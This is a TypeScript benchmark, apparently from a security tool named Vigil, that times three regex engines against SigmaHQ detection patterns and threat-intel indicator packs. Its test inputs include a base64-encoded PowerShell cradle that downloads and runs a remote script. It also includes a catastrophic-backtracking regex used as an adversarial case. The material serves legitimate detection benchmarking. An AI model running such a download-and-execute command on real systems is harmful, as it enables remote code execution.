/**
 * Regex engines for patterns that come from outside (Sigma `re`, feed regexes): every `|re` value
 * of the SigmaHQ rules (../shared/data/sigma) and every regex of the built-in intel packs, tested
 * against real-shaped field values (command lines, paths, URLs, a 6 KB encoded PowerShell command
 * line) on V8's backtracking engine (the baseline, not safe), RE2JS (pure JavaScript RE2 port, the
 * one Vigil uses) and re2-wasm (RE2 compiled to WebAssembly). Then one adversarial row: `^(a+)+$`
 * against 24 `a`s and a `!` (V8 kept at that length: each more `a` doubles its time).
 * Usage: node bench/regex.ts [ROUNDS]
 */
import { createRequire } from 'node:module';
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { parseAllDocuments } from 'yaml';
import { RE2JS } from 're2js';
import { compile, re2Syntax } from '../src/rules/safe-regex.ts';

const rounds = Number(process.argv[2] ?? 20);
const ROOT = join(import.meta.dirname, '..');
const SIGMA = join(ROOT, '..', 'shared', 'data', 'sigma');
const OUT = join(ROOT, 'bench', 'out');
mkdirSync(OUT, { recursive: true });
const { RE2: Re2Wasm } = createRequire(import.meta.url)('re2-wasm') as {
  RE2: new (p: string, f: string) => { test(s: string): boolean };
};

/** [pattern, flags] pairs: Sigma `|re` values and the built-in packs' regexes. */
const patterns: [string, string][] = [];
function walkValues(node: unknown): void {
  if (!node || typeof node !== 'object') return;
  for (const [k, v] of Object.entries(node as Record<string, unknown>)) {
    const mods = k.split('|').slice(1);
    if (mods.includes('re')) {
      const flags =
        (mods.includes('i') ? 'i' : '') + (mods.includes('m') ? 'm' : '') + (mods.includes('s') ? 's' : '');
      for (const x of Array.isArray(v) ? v : [v]) if (typeof x === 'string') patterns.push([x, flags]);
    } else walkValues(v);
  }
}
function walk(dir: string): void {
  for (const n of readdirSync(dir)) {
    const p = join(dir, n);
    if (statSync(p).isDirectory()) walk(p);
    else if (/\.ya?ml$/.test(n))
      for (const d of parseAllDocuments(readFileSync(p, 'utf8'))) walkValues(d.toJS()?.detection);
  }
}
if (existsSync(SIGMA)) for (const d of readdirSync(SIGMA)) if (d.startsWith('rules')) walk(join(SIGMA, d));
const sigmaCount = patterns.length;
const packs = join(ROOT, 'src', 'intel', 'packs', 'hafnium');
for (const line of readFileSync(
  join(packs, 'signature-base_filename-iocs_hafnium_excerpt.txt'),
  'utf8',
).split('\n')) {
  const m = /^(.+);(\d+)$/.exec(line.trim());
  if (m && !line.startsWith('#')) patterns.push([m[1]!, 'i']);
}
for (const m of readFileSync(join(packs, 'cisa_chirp_AA21062A.yaml'), 'utf8').matchAll(
  /\$\w+= \/(.+)\/\s*$/gm,
))
  patterns.push([m[1]!, 'i']);

const B64 = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/a.ps1"); '.repeat(60))
  .toString('base64')
  .slice(0, 6000);
const TEXTS = [
  'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=12 --mojo-platform-channel-handle=4100 /prefetch:1',
  '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
  '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe5_ Global\\UsGthrCtrlFltPipeMssGthrPipe5 1 -2147483646 "Software\\Microsoft\\Windows Search"',
  'C:\\Users\\alice.m\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_00a1b2',
  'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1004336348-1177238915-682003330-1105\\\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe',
  'Get-ChildItem -Path $env:TEMP -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-7) } | Remove-Item',
  '/owa/auth/Current/themes/resources/segoeui-semibold.ttf?v=15.1.2106.2',
  `powershell.exe -NoProfile -EncodedCommand ${B64}`,
];
const textChars = TEXTS.reduce((n, t) => n + t.length, 0);

type Engine = { name: string; make(p: string, f: string): { test(s: string): boolean } };
const engines: Engine[] = [
  {
    name: 'V8 RegExp (backtracking, baseline)',
    make: (p, f) => new RegExp(p.replace(/^\(\?i\)/, ''), f + 'u'),
  },
  {
    name: 'RE2JS 2.10.0 (pure JS, chosen)',
    make: (p, f) => compile(p, f),
  },
  { name: 're2-wasm 1.0.2 (RE2 in WebAssembly)', make: (p, f) => new Re2Wasm(re2Syntax(p), f + 'u') },
];

const lines = [
  `Regex engines: ${sigmaCount} SigmaHQ |re values + ${patterns.length - sigmaCount} built-in pack regexes × ${TEXTS.length} field values (${textChars} chars), ${rounds} rounds (${new Date().toISOString()})`,
];
for (const e of engines) {
  const t0 = performance.now();
  const compiled: { test(s: string): boolean }[] = [];
  let failed = 0;
  for (const [p, f] of patterns) {
    try {
      compiled.push(e.make(p, f));
    } catch {
      failed++;
    }
  }
  const compileMs = performance.now() - t0;
  let hits = 0;
  const t1 = performance.now();
  for (let r = 0; r < rounds; r++) for (const re of compiled) for (const t of TEXTS) if (re.test(t)) hits++;
  const secs = (performance.now() - t1) / 1000;
  const tests = rounds * compiled.length * TEXTS.length;
  lines.push(
    `${e.name.padEnd(38)} compile ${compileMs.toFixed(0).padStart(5)} ms (${failed} refused)  ${Math.round(
      tests / secs,
    )
      .toLocaleString('en')
      .padStart(
        10,
      )} tests/s  ${((rounds * compiled.length * textChars) / secs / 1e6).toFixed(1)} M chars/s  hits ${hits / rounds}`,
  );
}
const evil = `${'a'.repeat(24)}!`;
for (const e of engines) {
  const re = e.make('^(a+)+$', '');
  const t = performance.now();
  re.test(evil);
  lines.push(`${e.name.padEnd(38)} ^(a+)+$ on 24 a's and '!': ${(performance.now() - t).toFixed(2)} ms`);
}
void RE2JS;
console.log(lines.join('\n'));
writeFileSync(join(OUT, 'regex.txt'), `${lines.join('\n')}\n`);
